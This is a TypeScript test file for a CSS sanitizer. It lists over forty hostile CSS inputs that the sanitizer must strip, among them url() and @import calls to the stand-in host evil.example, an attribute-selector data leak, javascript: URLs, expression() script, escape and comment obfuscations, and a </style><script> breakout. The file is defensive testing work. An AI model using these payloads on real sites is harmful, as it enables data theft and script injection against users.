import { describe, expect, it } from 'vitest';
import { sanitizeCss } from './sanitize-css';

const OWN_IMAGE = '/api/files/own-image.png';
/** The lookup answers only the own image; it records what it was asked, to show the text's urls reach it. */
const asked: string[][] = [];
const sanitize = (css: string) =>
  sanitizeCss(css, async (urls) => {
    asked.push(urls);
    return new Set(urls.filter((url) => url === OWN_IMAGE));
  });

/** Inputs that try to load, run or escape; each must leave nothing of its dangerous part. */
const HOSTILE: { css: string; dangerous: RegExp }[] = [
  { css: '@import url(https://evil.example/x.css);', dangerous: /import|evil/i },
  { css: '@import "https://evil.example/x.css";', dangerous: /import|evil/i },
  { css: '@IMPORT "x.css";', dangerous: /import/i },
  { css: '@media screen{@import "x.css";}', dangerous: /import/i },
  { css: '@supports (display:grid){@media print{@import url(x.css);}}', dangerous: /import/i },
  { css: 'a{background:url(https://evil.example/p.png)}', dangerous: /url|evil/i },
  { css: 'a{background:url("//evil.example/p.png")}', dangerous: /url|evil/i },
  { css: 'a{background:url(/api/files/someone-elses.png)}', dangerous: /url|someone/i },
  { css: 'a{background:URL(https://evil.example/p.png)}', dangerous: /url|evil/i },
  { css: 'a{background:u\\rl(https://evil.example/p.png)}', dangerous: /evil|\\/i },
  { css: 'a{background:\\75 rl(https://evil.example/p.png)}', dangerous: /evil|\\/i },
  { css: 'a{background:u/**/rl(https://evil.example/p.png)}', dangerous: /evil/i },
  { css: 'a{background:url(/**/https://evil.example/p.png)}', dangerous: /evil/i },
  { css: 'a{background-image:image-set("https://evil.example/p.png" 1x)}', dangerous: /image-set|evil/i },
  { css: 'a{background-image:-webkit-image-set(url(https://evil.example/p.png) 1x)}', dangerous: /image-set|evil/i },
  { css: 'a{width:expression(alert(1))}', dangerous: /expression|alert/i },
  { css: 'a{width:\\65xpression(alert(1))}', dangerous: /xpression|alert/i },
  { css: 'a{width:expr/**/ession(alert(1))}', dangerous: /ession|alert/i },
  { css: 'a{behavior:url(script.htc)}', dangerous: /behavior|htc/i },
  { css: 'a{-moz-binding:url(https://evil.example/xbl.xml#x)}', dangerous: /binding|evil/i },
  { css: 'a{-ms-behavior:url(x.htc)}', dangerous: /behavior|htc/i },
  { css: 'a{background:url(javascript:alert(1))}', dangerous: /javascript|alert/i },
  { css: 'a{background:url("jav\\61 script:alert(1)")}', dangerous: /script|alert/i },
  { css: 'a{content:"javascript:alert(1)"}', dangerous: /javascript/i },
  { css: 'a{content:"\\6a avascript:alert(1)"}', dangerous: /javascript|6a/i },
  { css: 'a{list-style:url(https://evil.example/bullet.png)}', dangerous: /url|evil/i },
  { css: 'a{cursor:url(https://evil.example/c.cur),auto}', dangerous: /url|evil/i },
  { css: '@font-face{font-family:x;src:url(https://evil.example/f.woff2);unicode-range:U+0000-00FF}', dangerous: /font-face|evil|unicode/i },
  { css: '@font-face{font-family:x;src:local(Arial);unicode-range:U+26}', dangerous: /font-face|unicode/i },
  { css: 'a{unicode-range:U+0025-00FF}', dangerous: /unicode/i },
  { css: '@namespace svg url(http://www.w3.org/2000/svg);', dangerous: /namespace|w3/i },
  { css: '@layer aula-safety{a{display:none}}', dangerous: /aula-safety\{a/i },
  { css: '@charset "utf-7";a{color:red}', dangerous: /charset|utf-7/i },
  { css: '@page{margin:0}@media print{@page{size:a4}}', dangerous: /@page/i },
  { css: '@media screen{@font-face{src:url(https://evil.example/f.woff)}}', dangerous: /font-face|evil/i },
  { css: 'a{color:red;}}body{background:url(https://evil.example/x)}', dangerous: /evil/i },
  { css: 'a{color:red</style><script>alert(1)</script>}', dangerous: /<\/style|<script|alert/i },
  { css: '</style><script>alert(1)</script>', dangerous: /<\/style|<script|alert/i },
  { css: 'a{--x:url(https://evil.example/p.png);background:var(--x)}', dangerous: /evil/i },
  { css: 'a{background:var(--x,url(https://evil.example/p.png))}', dangerous: /evil/i },
  { css: 'a{.nested{background:url(https://evil.example/x)}}', dangerous: /evil|nested/i },
  { css: 'a{@media print{b{color:red}}}', dangerous: /@media/i },
  { css: '@supports (background:url(https://evil.example/x)){a{color:red}}', dangerous: /evil/i },
  { css: '@media (min-width:1px) and url(https://evil.example/x){a{color:red}}', dangerous: /evil/i },
  { css: 'a{background:url(data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pg==)}', dangerous: /data:|base64/i },
  { css: 'a{filter:url(#x)}', dangerous: /url/i },
  { css: '/*</style>*/a{background:url(https://evil.example/x)}', dangerous: /evil|<\/style/i },
  { css: 'a[href^="https://"]{background:url(https://evil.example/leak?x=h)}', dangerous: /evil|leak/i },
  { css: '@keyframes k{from{background:url(https://evil.example/x)}}', dangerous: /evil/i },
  { css: '@-moz-document url-prefix(){a{color:red}}', dangerous: /document|url-prefix/i },
  { css: '@\\69mport "x.css";', dangerous: /mport/i },
];

/** Ordinary styling; each must keep the declarations named. */
const BENIGN: { css: string; kept: string[] }[] = [
  { css: '.bar{background:#102a43;color:#fff}', kept: ['background:#102a43', 'color:#fff'] },
  { css: 'h1{font-size:3rem;letter-spacing:.02em}', kept: ['font-size:3rem', 'letter-spacing:.02em'] },
  { css: '.card{border-radius:4px;box-shadow:0 2px 6px rgb(0 0 0/20%)}', kept: ['border-radius:4px', 'box-shadow:0 2px 6px rgb(0 0 0/20%)'] },
  { css: '@media (max-width:600px){.hero{padding:1rem}}', kept: ['@media (max-width:600px)', 'padding:1rem'] },
  { css: '@supports (display:grid){.rooms{display:grid;gap:2rem}}', kept: ['display:grid', 'gap:2rem'] },
  { css: `.banner{background-image:url(${OWN_IMAGE})}`, kept: [`background-image:url(${OWN_IMAGE})`] },
  { css: '.enter a{background:linear-gradient(90deg,#f08c00,#e8590c);text-transform:uppercase}', kept: ['linear-gradient(90deg,#f08c00,#e8590c)', 'text-transform:uppercase'] },
  { css: '/* brand */ .menu a:hover{text-decoration:underline}', kept: ['text-decoration:underline'] },
  { css: '@keyframes pulse{from{opacity:.6}to{opacity:1}}.tz{animation:pulse 2s infinite}', kept: ['opacity:.6', 'animation:pulse 2s infinite'] },
  { css: 'body{font-family:Georgia,serif;line-height:1.7}', kept: ['font-family:Georgia,serif', 'line-height:1.7'] },
  { css: '.session::before{content:"★";color:var(--accent)}', kept: ['content:"★"', 'color:var(--accent)'] },
  { css: 'footer{padding:calc(1rem + 2vw) 0;opacity:.9}', kept: ['padding:calc(1rem + 2vw)0', 'opacity:.9'] },
];

describe('sanitizeCss', () => {
  it('holds at least 40 hostile and 10 benign inputs', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40);
    expect(BENIGN.length).toBeGreaterThanOrEqual(10);
  });

  it.each(HOSTILE)('strips $css', async ({ css, dangerous }) => {
    const result = await sanitize(css);
    expect(result.css).not.toMatch(dangerous);
    expect(result.css).not.toMatch(/\\|<|url\((?!\/api\/files\/own-image\.png\))/i);
    expect(result.problems.length).toBeGreaterThan(0);
  });

  it.each(BENIGN)('keeps $css', async ({ css, kept }) => {
    const result = await sanitize(css);
    expect(result.problems).toEqual([]);
    for (const declaration of kept) expect(result.css).toContain(declaration);
  });

  it('scopes every selector under the root and keeps no layer of its own, which the pages add', async () => {
    const result = await sanitize('h1, .bar a{color:red} body{color:blue} :root{color:green} @media print{p{color:black}}');
    expect(result.css).toBe('.aula-event h1,.aula-event .bar a{color:red}.aula-event{color:blue}.aula-event{color:green}@media print{.aula-event p{color:black}}');
  });

  it('reports each problem at its line and column of the text as written', async () => {
    const result = await sanitize('a{color:red}\n@import "x.css";\n.b{\n  behavior: url(x.htc);\n  color: blue\n}\n.c{color:}');
    expect(result.problems.map(({ code, line, column, name }) => ({ code, line, column, name }))).toEqual([
      { code: 'at_rule', line: 2, column: 1, name: 'import' },
      { code: 'property', line: 4, column: 3, name: 'behavior' },
      { code: 'value', line: 7, column: 4, name: 'color' },
    ]);
    expect(result.css).toContain('.aula-event .b{color:blue}');
  });

  it('keeps a declaration without its !important, so that the safety layer still wins', async () => {
    expect((await sanitize('a{color:red !important}')).css).toBe('.aula-event a{color:red}');
  });

  it('refuses nesting deeper than the parser should follow, at the place it starts', async () => {
    for (const css of ['@media a{'.repeat(7000), `a{color:${'calc('.repeat(12000)}1}`, `${':is('.repeat(15000)}a{}`]) {
      const result = await sanitize(css);
      expect(result.css).toBe('');
      expect(result.problems).toEqual([expect.objectContaining({ code: 'nesting', line: 1 })]);
    }
  });

  it('answers nothing for an empty stylesheet', async () => {
    expect(await sanitize('  /* nothing */ ')).toEqual({ css: '', problems: [] });
  });

  it("looks up every url() of the text at once, from the tree it sanitises, and keeps only those it answers", async () => {
    asked.length = 0;
    const result = await sanitize(`.a{background:url(${OWN_IMAGE})}\n.b{background-image:url("/api/files/other.png")}`);
    expect(asked).toEqual([[OWN_IMAGE, '/api/files/other.png']]);
    expect(result.css).toBe(`.aula-event .a{background:url(${OWN_IMAGE})}`);
    expect(result.problems).toEqual([expect.objectContaining({ code: 'url', line: 2 })]);
  });
});
